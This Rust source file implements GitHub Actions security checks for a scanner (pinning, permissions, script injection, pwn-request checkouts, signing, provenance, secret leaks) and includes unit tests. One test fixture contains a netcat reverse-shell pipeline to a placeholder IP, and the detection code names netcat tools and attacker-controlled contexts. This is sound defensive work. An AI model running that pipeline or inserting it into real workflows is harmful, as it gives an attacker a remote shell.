//! Native GitHub Actions checks: the rules under `rules/github/` for
//! workflow hardening and software supply chain in CI.
//!
//! A workflow file yields one `workflow` resource (the whole document) and
//! one `job` resource per job (see `archgate_iac::actions`). Step-level
//! checks run on jobs and point at the offending step key; workflow-level
//! checks run on the workflow. Expressions (`${{ … }}`) are kept as written,
//! so the checks read them as text: which context an expression reads
//! (`github.event.issue.title`, `secrets.X`) is what decides.
//!
//! Not for: resolving reusable workflows or composite actions from other
//! repositories, or evaluating expressions.

use super::{CheckFn, Context, Hit};
use archgate_core::{Node, Span};
use archgate_iac::Resource;

/// The native GitHub Actions checks, by rule id.
pub const CHECKS: &[(&str, CheckFn)] = &[
    ("AG-GHA-PIN-001", action_not_pinned),
    ("AG-GHA-PERM-001", permissions_not_declared),
    ("AG-GHA-PERM-002", permissions_write_all),
    ("AG-GHA-INJ-001", script_injection),
    ("AG-GHA-PRT-001", untrusted_checkout_in_privileged_trigger),
    ("AG-GHA-ENV-001", unsecure_commands_allowed),
    ("AG-GHA-SEC-001", secret_in_run),
    ("AG-GHA-NET-001", netcat_to_ip),
    ("AG-GHA-SIGN-001", image_pushed_unsigned),
    ("AG-GHA-SIGN-002", artifact_without_provenance),
    ("AG-GHA-CRED-001", checkout_persists_credentials),
    ("AG-GHA-INJ-002", script_interpolates_inputs),
    ("AG-GHA-SIGN-003", image_without_sbom),
    ("AG-GHA-SLSA-001", build_with_dispatch_inputs),
    ("AG-GHA-SEC-002", curl_with_secret),
];

fn hit(span: Span, message: String, key: impl Into<String>) -> Hit {
    Hit {
        span,
        message,
        key: key.into(),
    }
}

/// The span of `field`'s key in `map`, else `fallback`.
fn key_span(map: &Node, field: &str, fallback: Span) -> Span {
    map.entry(field)
        .map(|(k, v)| if k.span.is_empty() { v.span } else { k.span })
        .unwrap_or(fallback)
}

/// A step of a job with its position.
struct Step<'a> {
    node: &'a Node,
    index: usize,
}

impl<'a> Step<'a> {
    fn uses(&self) -> Option<&'a str> {
        self.node.get("uses").and_then(Node::as_str)
    }
    fn run(&self) -> Option<&'a str> {
        self.node.get("run").and_then(Node::as_str)
    }
    fn with(&self, input: &str) -> Option<&'a Node> {
        self.node.get("with").and_then(|w| w.get(input))
    }
    fn key(&self) -> String {
        match self.node.get("id").and_then(Node::as_str) {
            Some(id) => format!("steps[{id}]"),
            None => format!("steps[{}]", self.index),
        }
    }
}

fn steps(job: &Resource) -> Vec<Step<'_>> {
    if job.kind != "job" {
        return Vec::new();
    }
    job.body
        .get("steps")
        .and_then(Node::as_seq)
        .unwrap_or(&[])
        .iter()
        .enumerate()
        .filter(|(_, n)| n.as_map().is_some())
        .map(|(index, node)| Step { node, index })
        .collect()
}

/// The workflow document a job belongs to.
fn workflow_of<'a>(job: &Resource, ctx: &'a Context) -> Option<&'a Resource> {
    ctx.by_kind("workflow").find(|w| w.file == job.file)
}

/// The events a workflow runs on (`on:` as a string, list or mapping).
fn triggers(workflow: &Resource) -> Vec<&str> {
    match workflow.body.get("on") {
        Some(n) => match (n.as_str(), n.as_seq(), n.as_map()) {
            (Some(s), _, _) => vec![s],
            (_, Some(items), _) => items.iter().filter_map(Node::as_str).collect(),
            (_, _, Some(entries)) => entries.iter().map(|(k, _)| k.name.as_str()).collect(),
            _ => Vec::new(),
        },
        None => Vec::new(),
    }
}

/// The contents of every `${{ … }}` expression in a text.
fn expressions(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(i) = rest.find("${{") {
        let after = &rest[i + 3..];
        let end = after.find("}}").unwrap_or(after.len());
        out.push(after[..end].trim());
        rest = &after[end..];
    }
    out
}

// ---------------------------------------------------------------------------
// Pinning
// ---------------------------------------------------------------------------

/// True for a full-length commit id.
fn is_full_sha(r: &str) -> bool {
    (r.len() == 40 || r.len() == 64) && r.bytes().all(|b| b.is_ascii_hexdigit())
}

/// Why a `uses:` reference is not immutable, or `None` when it is.
pub fn unpinned(uses: &str) -> Option<String> {
    let u = uses.trim();
    if u.starts_with("./") || u.contains("${{") {
        return None;
    }
    if let Some(image) = u.strip_prefix("docker://") {
        return (!image.contains("@sha256:"))
            .then(|| format!("container action {u} is not pinned by digest"));
    }
    match u.rsplit_once('@') {
        Some((_, r)) if is_full_sha(r) => None,
        Some((action, r)) => Some(format!(
            "{action} is referenced by '{r}', a tag or branch its owner can move"
        )),
        None => Some(format!("{u} has no version at all")),
    }
}

fn action_not_pinned(r: &Resource, _: &Context) -> Vec<Hit> {
    if r.kind != "job" {
        return Vec::new();
    }
    let mut hits = Vec::new();
    // A job that calls a reusable workflow.
    if let Some(u) = r.body.get("uses").and_then(Node::as_str) {
        if let Some(why) = unpinned(u) {
            hits.push(hit(key_span(&r.body, "uses", r.span), why, "uses"));
        }
    }
    for s in steps(r) {
        if let Some(why) = s.uses().and_then(unpinned) {
            hits.push(hit(key_span(s.node, "uses", s.node.span), why, s.key()));
        }
    }
    hits
}

// ---------------------------------------------------------------------------
// Permissions
// ---------------------------------------------------------------------------

fn permissions_not_declared(r: &Resource, ctx: &Context) -> Vec<Hit> {
    if r.kind != "workflow" || r.body.get("permissions").is_some() {
        return Vec::new();
    }
    // Every job declaring its own permissions is as good as a top-level block.
    let jobs: Vec<&Resource> = ctx.by_kind("job").filter(|j| j.file == r.file).collect();
    if !jobs.is_empty() && jobs.iter().all(|j| j.body.get("permissions").is_some()) {
        return Vec::new();
    }
    vec![hit(
        r.span,
        "the workflow declares no `permissions`, so its GITHUB_TOKEN gets the repository default, which may be write access to everything".to_string(),
        "permissions",
    )]
}

fn write_all(n: Option<&Node>) -> bool {
    n.and_then(Node::as_str) == Some("write-all")
}

fn permissions_write_all(r: &Resource, _: &Context) -> Vec<Hit> {
    let what = match r.kind.as_str() {
        "workflow" => "the workflow",
        "job" => "the job",
        _ => return Vec::new(),
    };
    if !write_all(r.body.get("permissions")) {
        return Vec::new();
    }
    vec![hit(
        key_span(&r.body, "permissions", r.span),
        format!("{what} grants its GITHUB_TOKEN write-all permissions"),
        "permissions",
    )]
}

// ---------------------------------------------------------------------------
// Script injection and untrusted code
// ---------------------------------------------------------------------------

/// Contexts whose values a pull request, issue or commit author chooses.
pub fn attacker_controlled(expr: &str) -> bool {
    let e = expr.trim();
    const EXACT_SUFFIXES: &[&str] = &[
        ".issue.title",
        ".issue.body",
        ".pull_request.title",
        ".pull_request.body",
        ".comment.body",
        ".review.body",
        ".review_comment.body",
        ".discussion.title",
        ".discussion.body",
        ".head_commit.message",
        ".head_commit.author.email",
        ".head_commit.author.name",
        ".pull_request.head.ref",
        ".pull_request.head.label",
        ".pull_request.head.repo.default_branch",
        ".workflow_run.head_branch",
        ".workflow_run.head_commit.message",
        ".workflow_run.head_commit.author.email",
        ".workflow_run.head_commit.author.name",
    ];
    if e == "github.head_ref" {
        return true;
    }
    if !e.starts_with("github.event.") {
        return false;
    }
    EXACT_SUFFIXES.iter().any(|s| e.ends_with(s))
        || (e.contains(".commits") && (e.ends_with(".message") || e.contains(".author.")))
        || (e.contains(".pages") && e.ends_with(".page_name"))
}

fn script_injection(r: &Resource, _: &Context) -> Vec<Hit> {
    let mut hits = Vec::new();
    for s in steps(r) {
        // `run:` scripts, and the `script:` input of actions/github-script.
        let (field, text) = match (s.run(), s.uses()) {
            (Some(run), _) => ("run", run),
            (None, Some(u)) if u.starts_with("actions/github-script") => {
                match s.with("script").and_then(Node::as_str) {
                    Some(script) => ("script", script),
                    None => continue,
                }
            }
            _ => continue,
        };
        let bad: Vec<&str> = expressions(text)
            .into_iter()
            .filter(|e| attacker_controlled(e))
            .collect();
        if let Some(first) = bad.first() {
            let span = if field == "run" {
                key_span(s.node, "run", s.node.span)
            } else {
                s.node
                    .get("with")
                    .map(|w| key_span(w, "script", s.node.span))
                    .unwrap_or(s.node.span)
            };
            hits.push(hit(
                span,
                format!(
                    "the step's {field} interpolates ${{{{ {first} }}}}, which whoever opens the issue or pull request controls: shell injection"
                ),
                s.key(),
            ));
        }
    }
    hits
}

/// Inputs of manually or externally triggered workflows.
fn is_input(expr: &str) -> bool {
    let e = expr.trim();
    e.starts_with("inputs.")
        || e.starts_with("github.event.inputs.")
        || e.starts_with("github.event.client_payload.")
}

fn script_interpolates_inputs(r: &Resource, _: &Context) -> Vec<Hit> {
    steps(r)
        .into_iter()
        .filter_map(|s| {
            let run = s.run()?;
            let input = expressions(run).into_iter().find(|e| is_input(e))?;
            Some(hit(
                key_span(s.node, "run", s.node.span),
                format!(
                    "the step's run interpolates ${{{{ {input} }}}}; whoever triggers the workflow chooses that text and can inject shell commands"
                ),
                s.key(),
            ))
        })
        .collect()
}

fn checkout_persists_credentials(r: &Resource, _: &Context) -> Vec<Hit> {
    steps(r)
        .into_iter()
        .filter(|s| s.uses().is_some_and(|u| u.starts_with("actions/checkout")))
        .filter(|s| {
            let v = s.with("persist-credentials");
            !(v.is_some_and(|v| {
                v.as_bool() == Some(false) || v.as_str().is_some_and(|t| t.contains("${{"))
            }))
        })
        .map(|s| {
            hit(
                key_span(s.node, "uses", s.node.span),
                "actions/checkout leaves the job's token in .git/config for every later step (persist-credentials is not false)".to_string(),
                s.key(),
            )
        })
        .collect()
}

/// Triggers that run with the base repository's secrets and a write token
/// while reacting to untrusted pull requests.
const PRIVILEGED_TRIGGERS: &[&str] = &["pull_request_target", "workflow_run"];

/// True when a `ref:` value selects the pull request's own code.
fn is_untrusted_ref(v: &str) -> bool {
    expressions(v).iter().any(|e| {
        matches!(
            *e,
            "github.event.pull_request.head.sha"
                | "github.event.pull_request.head.ref"
                | "github.head_ref"
                | "github.event.workflow_run.head_sha"
                | "github.event.workflow_run.head_branch"
                | "github.event.pull_request.merge_commit_sha"
        ) || e.starts_with("format('refs/pull/")
    }) || v.contains("refs/pull/")
}

fn untrusted_checkout_in_privileged_trigger(r: &Resource, ctx: &Context) -> Vec<Hit> {
    if r.kind != "job" {
        return Vec::new();
    }
    let Some(wf) = workflow_of(r, ctx) else {
        return Vec::new();
    };
    let trig = triggers(wf);
    let Some(trigger) = trig.iter().find(|t| PRIVILEGED_TRIGGERS.contains(t)) else {
        return Vec::new();
    };
    let mut hits = Vec::new();
    for s in steps(r) {
        let checkout = s.uses().is_some_and(|u| u.starts_with("actions/checkout"));
        let untrusted = s
            .with("ref")
            .and_then(Node::as_str)
            .is_some_and(is_untrusted_ref)
            || s.with("repository")
                .and_then(Node::as_str)
                .is_some_and(|v| {
                    expressions(v).contains(&"github.event.pull_request.head.repo.full_name")
                });
        if checkout && untrusted {
            hits.push(hit(
                key_span(s.node, "uses", s.node.span),
                format!(
                    "the job checks out the pull request's code in a {trigger} workflow, which runs with secrets and a write token"
                ),
                s.key(),
            ));
        }
    }
    hits
}

fn unsecure_commands_allowed(r: &Resource, _: &Context) -> Vec<Hit> {
    let mut envs: Vec<(&Node, String)> = Vec::new();
    match r.kind.as_str() {
        "workflow" => {
            if let Some(e) = r.body.get("env") {
                envs.push((e, "env".into()));
            }
        }
        "job" => {
            if let Some(e) = r.body.get("env") {
                envs.push((e, "env".into()));
            }
            for s in steps(r) {
                if let Some(e) = s.node.get("env") {
                    envs.push((e, format!("{}.env", s.key())));
                }
            }
        }
        _ => return Vec::new(),
    }
    envs.into_iter()
        .filter_map(|(env, key)| {
            let v = env.get("ACTIONS_ALLOW_UNSECURE_COMMANDS")?;
            let on = v.as_bool() == Some(true)
                || v.as_str().is_some_and(|s| s.eq_ignore_ascii_case("true"));
            on.then(|| {
                hit(
                    key_span(env, "ACTIONS_ALLOW_UNSECURE_COMMANDS", env.span),
                    "ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables the deprecated set-env and add-path workflow commands, which let any logged text change the environment".to_string(),
                    key,
                )
            })
        })
        .collect()
}

fn secret_in_run(r: &Resource, _: &Context) -> Vec<Hit> {
    steps(r)
        .into_iter()
        .filter_map(|s| {
            let run = s.run()?;
            let secret = expressions(run)
                .into_iter()
                .find(|e| e.starts_with("secrets.") && *e != "secrets.GITHUB_TOKEN")?;
            Some(hit(
                key_span(s.node, "run", s.node.span),
                format!(
                    "the step writes ${{{{ {secret} }}}} into its script; pass it through `env:` so it never becomes part of the command text"
                ),
                s.key(),
            ))
        })
        .collect()
}

/// True for a dotted IPv4 address.
fn is_ipv4(s: &str) -> bool {
    let parts: Vec<&str> = s.split('.').collect();
    parts.len() == 4
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u8>().is_ok())
}

fn netcat_to_ip(r: &Resource, _: &Context) -> Vec<Hit> {
    steps(r)
        .into_iter()
        .filter_map(|s| {
            let run = s.run()?;
            let found = run.lines().any(|line| {
                let words: Vec<&str> = line
                    .split(|c: char| c.is_whitespace() || matches!(c, '|' | ';' | '&' | '(' | ')'))
                    .filter(|w| !w.is_empty())
                    .collect();
                words.iter().enumerate().any(|(i, w)| {
                    matches!(*w, "nc" | "netcat" | "ncat")
                        && words[i + 1..].iter().any(|x| is_ipv4(x))
                })
            });
            found.then(|| {
                hit(
                    key_span(s.node, "run", s.node.span),
                    "the step runs netcat against an IP address, the shape of a reverse shell or data exfiltration".to_string(),
                    s.key(),
                )
            })
        })
        .collect()
}

// ---------------------------------------------------------------------------
// Supply chain: signing and provenance of what the workflow publishes
// ---------------------------------------------------------------------------

/// The first step of a job that publishes a container image, if any.
fn image_publish_step<'a>(steps: &'a [Step<'a>]) -> Option<&'a Step<'a>> {
    steps.iter().find(|s| {
        let build_push = s
            .uses()
            .is_some_and(|u| u.starts_with("docker/build-push-action"))
            && s.with("push").is_some_and(|p| {
                p.as_bool() == Some(true) || p.as_str().is_some_and(|v| v.contains("${{"))
            });
        let cli_push = s.run().is_some_and(|run| {
            run.lines().any(|l| {
                let l = l.trim();
                l.starts_with("docker push")
                    || l.starts_with("podman push")
                    || l.starts_with("buildah push")
                    || l.starts_with("crane push")
                    || l.starts_with("ko publish")
                    || l.starts_with("ko build")
                    || (l.starts_with("docker buildx build") && l.contains("--push"))
            })
        });
        build_push || cli_push
    })
}

fn job_runs(steps: &[Step], needle: &str) -> bool {
    steps
        .iter()
        .any(|s| s.run().is_some_and(|r| r.contains(needle)))
}

fn job_uses(steps: &[Step], prefix: &str) -> bool {
    steps
        .iter()
        .any(|s| s.uses().is_some_and(|u| u.starts_with(prefix)))
}

/// The jobs of the workflow file `r` belongs to (signing and attestation
/// often happen in a follow-up job that `needs` the build).
fn sibling_jobs<'a>(r: &'a Resource, ctx: &'a Context) -> Vec<&'a Resource> {
    let mut jobs: Vec<&Resource> = ctx.by_kind("job").filter(|j| j.file == r.file).collect();
    if jobs.is_empty() {
        jobs.push(r);
    }
    jobs
}

fn image_pushed_unsigned(r: &Resource, ctx: &Context) -> Vec<Hit> {
    let st = steps(r);
    let Some(push) = image_publish_step(&st) else {
        return Vec::new();
    };
    let signed = sibling_jobs(r, ctx).iter().any(|j| {
        let js = steps(j);
        job_runs(&js, "cosign sign") || job_runs(&js, "notation sign")
    });
    if signed {
        return Vec::new();
    }
    vec![hit(
        push.node.span,
        "the workflow publishes a container image but never signs it (cosign sign / notation sign)"
            .to_string(),
        push.key(),
    )]
}

fn artifact_without_provenance(r: &Resource, ctx: &Context) -> Vec<Hit> {
    let st = steps(r);
    let Some(push) = image_publish_step(&st) else {
        return Vec::new();
    };
    let inline = push.with("provenance").is_some_and(|p| {
        p.as_bool() == Some(true)
            || p.as_str()
                .is_some_and(|v| v.starts_with("mode=") || v == "true")
    });
    let attested = inline
        || sibling_jobs(r, ctx).iter().any(|j| {
            let js = steps(j);
            job_uses(&js, "actions/attest-build-provenance")
                || job_uses(&js, "actions/attest")
                || job_uses(&js, "slsa-framework/slsa-github-generator")
                || job_runs(&js, "cosign attest")
                // A reusable SLSA generator workflow called as a job.
                || j.body
                    .get("uses")
                    .and_then(Node::as_str)
                    .is_some_and(|u| u.starts_with("slsa-framework/slsa-github-generator"))
        });
    if attested {
        return Vec::new();
    }
    vec![hit(
        push.node.span,
        "the workflow publishes a container image without a build provenance attestation"
            .to_string(),
        push.key(),
    )]
}

fn image_without_sbom(r: &Resource, ctx: &Context) -> Vec<Hit> {
    let st = steps(r);
    let Some(push) = image_publish_step(&st) else {
        return Vec::new();
    };
    let inline = push
        .with("sbom")
        .is_some_and(|p| p.as_bool() == Some(true) || p.as_str() == Some("true"));
    let attested = inline
        || sibling_jobs(r, ctx).iter().any(|j| {
            let js = steps(j);
            js.iter().any(|s| {
                s.run().is_some_and(|run| {
                    run.lines().any(|l| {
                        l.contains("cosign attest")
                            && (l.contains("spdx") || l.contains("cyclonedx") || l.contains("sbom"))
                    })
                })
            }) || job_uses(&js, "actions/attest-sbom")
        });
    if attested {
        return Vec::new();
    }
    vec![hit(
        push.node.span,
        "the workflow publishes a container image without an attested SBOM".to_string(),
        push.key(),
    )]
}

/// Steps that build an artifact (image builders).
fn builds_something(steps: &[Step]) -> bool {
    steps.iter().any(|s| {
        s.uses().is_some_and(|u| {
            u.starts_with("docker/build-push-action") || u.starts_with("docker/bake-action")
        }) || s.run().is_some_and(|run| {
            [
                "docker build",
                "docker buildx build",
                "ko build",
                "buildah bud",
                "buildah build",
                "podman build",
                "nerdctl build",
            ]
            .iter()
            .any(|c| run.contains(c))
        })
    })
}

fn build_with_dispatch_inputs(r: &Resource, ctx: &Context) -> Vec<Hit> {
    if r.kind != "workflow" {
        return Vec::new();
    }
    let Some(inputs) = r.body.path("on.workflow_dispatch.inputs") else {
        return Vec::new();
    };
    if inputs.as_map().is_none_or(|m| m.is_empty()) {
        return Vec::new();
    }
    let builds = ctx
        .by_kind("job")
        .filter(|j| j.file == r.file)
        .any(|j| builds_something(&steps(j)));
    if !builds {
        return Vec::new();
    }
    let span = r
        .body
        .get("on")
        .and_then(|on| on.get("workflow_dispatch"))
        .map(|wd| key_span(wd, "inputs", wd.span))
        .unwrap_or(r.span);
    vec![hit(
        span,
        "the build workflow takes workflow_dispatch inputs, so whoever triggers it can shape the build output".to_string(),
        "on.workflow_dispatch.inputs",
    )]
}

fn curl_with_secret(r: &Resource, _: &Context) -> Vec<Hit> {
    steps(r)
        .into_iter()
        .filter_map(|s| {
            let run = s.run()?;
            let bad = run.lines().any(|l| {
                let lower = l.to_ascii_lowercase();
                (lower.contains("curl ") || lower.contains("wget "))
                    && (l.contains("secrets.") || lower.contains("secret"))
            });
            bad.then(|| {
                hit(
                    key_span(s.node, "run", s.node.span),
                    "the step sends a secret with curl/wget on the command line, where process listings, proxies and error output can expose it".to_string(),
                    s.key(),
                )
            })
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use archgate_iac::{ParsedUnit, SourceKind};

    #[test]
    fn pinning() {
        assert!(unpinned("actions/checkout@v4").is_some());
        assert!(unpinned("actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11").is_none());
        assert!(unpinned("./.github/actions/setup").is_none());
        assert!(unpinned("docker://alpine:3.20").is_some());
        assert!(unpinned("docker://alpine@sha256:0123").is_none());
    }

    #[test]
    fn untrusted_contexts() {
        assert!(attacker_controlled("github.event.issue.title"));
        assert!(attacker_controlled("github.event.commits[0].message"));
        assert!(attacker_controlled("github.head_ref"));
        assert!(!attacker_controlled("github.event.pull_request.number"));
        assert!(!attacker_controlled("github.sha"));
    }

    /// The workflow and job resources of a workflow text, shaped as the
    /// Actions parser shapes them.
    fn unit(text: &str) -> ParsedUnit {
        let doc = archgate_core::yaml::parse_documents(text)
            .ok()
            .and_then(|mut d| d.pop())
            .unwrap_or_else(|| Node::new(archgate_core::Value::Null, Span::default()));
        let mut resources = Vec::new();
        let base = Resource {
            source: SourceKind::GithubActions,
            block: "resource".into(),
            kind: "workflow".into(),
            name: "ci.yml".into(),
            address: "workflow.ci.yml".into(),
            file: ".github/workflows/ci.yml".into(),
            span: doc.span,
            body: doc.clone(),
            module: None,
            multiple: false,
            labels: Vec::new(),
        };
        for (k, job) in doc.get("jobs").and_then(Node::as_map).unwrap_or(&[]) {
            resources.push(Resource {
                kind: "job".into(),
                name: k.name.clone(),
                address: format!("jobs.{}", k.name),
                span: k.span,
                body: job.clone(),
                ..base.clone()
            });
        }
        resources.push(base);
        ParsedUnit {
            resources,
            ..ParsedUnit::default()
        }
    }

    fn lines(check: CheckFn, text: &str) -> Vec<u32> {
        let u = unit(text);
        let ctx = Context::new(&u);
        let mut out: Vec<u32> = u
            .resources
            .iter()
            .flat_map(|r| check(r, &ctx))
            .map(|h| h.span.line)
            .collect();
        out.sort();
        out
    }

    #[test]
    fn pwn_request_needs_the_privileged_trigger() {
        let job = "jobs:
  a:
    runs-on: x
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
";
        assert_eq!(
            lines(
                untrusted_checkout_in_privileged_trigger,
                &format!("on: pull_request_target\n{job}")
            ),
            vec![6]
        );
        assert!(lines(
            untrusted_checkout_in_privileged_trigger,
            &format!("on: pull_request\n{job}")
        )
        .is_empty());
    }

    #[test]
    fn permissions_on_every_job_are_enough() {
        let text = "on: push
jobs:
  a:
    permissions: {contents: read}
    runs-on: x
  b:
    runs-on: x
";
        assert_eq!(lines(permissions_not_declared, text), vec![1]);
        let all = text.replace("  b:\n    runs-on: x\n", "");
        assert!(lines(permissions_not_declared, &all).is_empty());
    }

    #[test]
    fn signing_may_happen_in_a_later_job() {
        let pushed = "on: push
jobs:
  build:
    runs-on: x
    steps:
      - run: docker push ghcr.io/acme/app:1
";
        assert_eq!(lines(image_pushed_unsigned, pushed), vec![6]);
        let signed = format!(
            "{pushed}  sign:\n    needs: build\n    runs-on: x\n    steps:\n      - run: cosign sign --yes ghcr.io/acme/app:1\n"
        );
        assert!(lines(image_pushed_unsigned, &signed).is_empty());
    }

    #[test]
    fn netcat_inside_pipelines() {
        let text = "on: push
jobs:
  a:
    runs-on: x
    steps:
      - run: cat /tmp/f|/bin/sh -i 2>&1|netcat 198.51.100.7 4444 >/tmp/f
";
        assert_eq!(lines(netcat_to_ip, text), vec![6]);
    }

    #[test]
    fn finds_expressions() {
        assert_eq!(expressions("echo ${{ a.b }} and ${{c}}"), vec!["a.b", "c"]);
    }
}
